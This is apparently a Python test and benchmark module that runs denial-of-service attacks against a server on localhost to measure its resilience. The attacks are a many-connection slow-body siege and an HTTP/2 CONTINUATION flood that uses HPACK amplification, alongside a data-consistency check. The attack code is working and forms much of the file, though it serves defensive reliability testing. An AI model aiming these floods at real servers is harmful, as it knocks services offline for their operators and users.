"""Attacks on a running server, as an outside tester runs them: raw sockets, no server internals.

Each function takes the port of a server already running on 127.0.0.1 and returns what it
measured; the reliability tests (small sizes) and ``make bench`` (the issue's sizes) call the
same functions, so a benchmark row and a test can never measure two different things.

- :func:`slow_body_siege`: many clients that send full headers, announce a body and then
  trickle it one byte every few seconds (reconnecting when dropped), while one normal client
  keeps asking; reports how many of its requests were answered and the slowest.
- :func:`h2_continuation_flood`: HTTP/2 connections that send a HEADERS frame and then
  CONTINUATION frames without end, while the server's memory is sampled.
- :func:`slow_requests_open`: opens slow-body requests and leaves them open (for SIGTERM).
- :func:`loads_under_reads`: commits loads tens of times a second under read load and counts
  answers that mix two loads.
"""

from __future__ import annotations

import asyncio
import contextlib
import http.client
import json
import random
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx

from reference_server.demo import PROJECT_A, TOKEN_A, Job
from reference_server.oslimits import raise_open_file_limit
from reference_server.store import Store

PATH = f"/v1.0/{PROJECT_A}/jobs/metrics"
BODY = json.dumps({"job_ids": list(range(1, 11))}).encode()
SLOW_HEAD = (
    f"POST {PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Auth-Token: {TOKEN_A}\r\n"
    "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
).encode()


@dataclass(frozen=True)
class SiegeResult:
    """What the normal client saw while the slow clients held their connections."""

    slow_clients: int
    slow_connected: int  # slow connections open at the end (the rest were dropped and retried)
    drops: int  # times the server closed a slow connection (body timeout)
    asked: int
    answered: int  # answered with 200 within ``patience`` seconds
    slowest_s: float

    @property
    def answered_share(self) -> float:
        return self.answered / self.asked if self.asked else 0.0


async def _slow_client(
    port: int, interval: float, stop: asyncio.Event, stats: dict[str, int]
) -> None:
    """Send headers, then one body byte per ``interval``; reconnect whenever dropped."""
    while not stop.is_set():
        writer = None
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(SLOW_HEAD)
            await writer.drain()
            stats["open"] += 1
            try:
                while not stop.is_set():
                    writer.write(b" ")
                    await writer.drain()
                    try:
                        await asyncio.wait_for(reader.read(1), timeout=interval)
                    except TimeoutError:
                        continue  # nothing from the server yet: send the next byte
                    break  # an answer or a close from the server ends this attempt
            finally:
                stats["open"] -= 1
            if not stop.is_set():
                stats["drops"] += 1
        except OSError:
            await asyncio.sleep(0.2)  # refused or reset: try again shortly, as an attacker would
        finally:
            if writer is not None:
                writer.close()
                with contextlib.suppress(OSError):
                    await writer.wait_closed()


def _normal_client(
    port: int, seconds: float, patience: float, pause: float
) -> tuple[int, int, float]:
    """New connection per request (as a fresh client would); returns asked, answered, slowest."""
    asked = answered = 0
    slowest = 0.0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        asked += 1
        start = time.monotonic()
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=patience)
        try:
            conn.request(
                "POST",
                PATH,
                body=BODY,
                headers={"X-Auth-Token": TOKEN_A, "Content-Type": "application/json"},
            )
            status = conn.getresponse().status
            took = time.monotonic() - start
            if status == 200 and took <= patience:
                answered += 1
        except OSError:
            took = time.monotonic() - start
        finally:
            conn.close()
        slowest = max(slowest, took)
        time.sleep(pause)
    return asked, answered, slowest


def slow_body_siege(
    port: int,
    *,
    clients: int = 1100,
    seconds: float = 20.0,
    ramp_seconds: float = 3.0,
    interval: float = 2.0,
    patience: float = 2.0,
) -> SiegeResult:
    """``clients`` slow-body connections for ``seconds``, and a normal client asking meanwhile."""
    raise_open_file_limit(clients + 256)  # this side holds one socket per client too
    stats = {"open": 0, "drops": 0}

    async def siege() -> SiegeResult:
        stop = asyncio.Event()
        tasks = []
        for _ in range(clients):
            tasks.append(asyncio.create_task(_slow_client(port, interval, stop, stats)))
            await asyncio.sleep(ramp_seconds / clients)
        loop = asyncio.get_running_loop()
        normal = loop.run_in_executor(None, _normal_client, port, seconds, patience, 0.1)
        asked, answered, slowest = await normal
        open_at_end = stats["open"]  # before the slow clients are told to stop
        stop.set()
        await asyncio.gather(*tasks, return_exceptions=True)
        return SiegeResult(clients, open_at_end, stats["drops"], asked, answered, slowest)

    return asyncio.run(siege())


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def _hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
    """RFC 7541 5.1 integer with an N-bit prefix; ``first`` holds the pattern bits above it."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


# One ~4 KB field added to the HPACK dynamic table (literal with incremental indexing) ...
ENTRY = b"\x40" + _hpack_int(5, 7, 0) + b"x-pad" + _hpack_int(4000, 7, 0) + b"a" * 4000
# ... then named again by one byte each (indexed field 62, the newest entry): every byte the
# attacker sends is 4 KB of header for the server to hold.
REPEAT = _hpack_int(62, 7, 0x80)


# Request pseudo-headers from the HPACK static table: :method POST, :scheme http, :path /.
PSEUDO = bytes([0x83, 0x86, 0x84])


def _flood_one(port: int, stop: threading.Event, stats: dict[str, int]) -> None:
    """One connection sending requests whose headers arrive as a HEADERS frame and a train of
    CONTINUATION frames, each request's headers just under a 16 MiB header-list limit."""
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port)) as sock:
        sock.settimeout(5)
        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(0x4, 0, 0, b""))
        stream = 1
        first = PSEUDO + ENTRY
        while not stop.is_set():
            sock.sendall(_frame(0x1, 0x1, stream, first))  # HEADERS, END_STREAM, more to come
            for _ in range(3):
                sock.sendall(_frame(0x9, 0, stream, REPEAT * 1000))  # CONTINUATION
                stats["frames"] += 1
            sock.sendall(_frame(0x9, 0x4, stream, REPEAT * 990))  # CONTINUATION, END_HEADERS
            stats["frames"] += 1
            first = PSEUDO
            stream += 2
    stats["closed"] += 1


def h2_continuation_flood(
    port: int, rss: Callable[[], int], *, connections: int = 100, seconds: float = 10.0
) -> tuple[int, int, int]:
    """Flood for ``seconds``; return (peak RSS bytes, CONTINUATION frames sent, closed conns)."""
    stop = threading.Event()
    stats = {"frames": 0, "closed": 0}
    threads = [
        threading.Thread(target=_flood_one, args=(port, stop, stats), daemon=True)
        for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    peak = rss()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        peak = max(peak, rss())
        time.sleep(0.1)
    stop.set()
    for thread in threads:
        thread.join(timeout=10)
    return max(peak, rss()), stats["frames"], stats["closed"]


@contextlib.contextmanager
def slow_requests_open(port: int, count: int = 5) -> Iterator[list[socket.socket]]:
    """``count`` requests that announced 100,000 body bytes and sent one: left open."""
    socks = []
    try:
        for _ in range(count):
            sock = socket.create_connection(("127.0.0.1", port))
            sock.sendall(SLOW_HEAD + b" ")
            socks.append(sock)
        yield socks
    finally:
        for sock in socks:
            sock.close()


@dataclass(frozen=True)
class MixResult:
    """Answers read while loads committed, and how many mixed two loads."""

    commits: int
    answers: int
    mixed: int
    seconds: float
    errors: int = 0  # answers other than 200 (none expected: every request is valid)

    @property
    def commits_per_second(self) -> float:
        return self.commits / self.seconds


def loads_under_reads(
    port: int,
    db: Path,
    *,
    seconds: float = 60.0,
    commits_per_second: float = 40.0,
    jobs: int = 200,
    readers: int = 4,
) -> MixResult:
    """Commit load after load while readers ask; count answers whose jobs differ in load.

    Load ``k`` writes ``k`` as the read rate of jobs 1..``jobs`` of project A in one
    transaction (through the store, as ``make load`` does). Readers ask for random subsets,
    so some jobs of an answer are cached and some are not; every job of one answer must
    carry the same ``k``.
    """
    writer = Store(db)
    stop = threading.Event()
    counts = {"answers": 0, "mixed": 0, "errors": 0}
    lock = threading.Lock()

    def read(seed: int) -> None:
        rng = random.Random(seed)
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=10) as client:
            while not stop.is_set():
                ids = rng.sample(range(1, jobs + 1), rng.randint(2, 40))
                answer = client.post(
                    PATH,
                    json={"job_ids": ids},
                    headers={"X-Auth-Token": TOKEN_A},
                )
                if answer.status_code != 200:
                    with lock:
                        counts["errors"] += 1
                    continue
                got = {
                    job["metrics"].get("total_read_rate")
                    for job in answer.json()["payload"]["jobs"]
                }
                with lock:
                    counts["answers"] += 1
                    counts["mixed"] += len(got) > 1

    threads = [threading.Thread(target=read, args=(seed,)) for seed in range(readers)]
    for thread in threads:
        thread.start()
    commits = 0
    start = time.monotonic()
    try:
        while (elapsed := time.monotonic() - start) < seconds:
            commits += 1
            writer.load(
                PROJECT_A,
                [Job(job_id=i, sources=(), sinks=(), total_read_rate=float(commits),
                     total_write_rate=None) for i in range(1, jobs + 1)],
            )  # fmt: skip
            time.sleep(max(0.0, commits / commits_per_second - elapsed))
    finally:
        stop.set()
        for thread in threads:
            thread.join()
        writer.close()
    seconds_taken = time.monotonic() - start
    return MixResult(commits, counts["answers"], counts["mixed"], seconds_taken, counts["errors"])
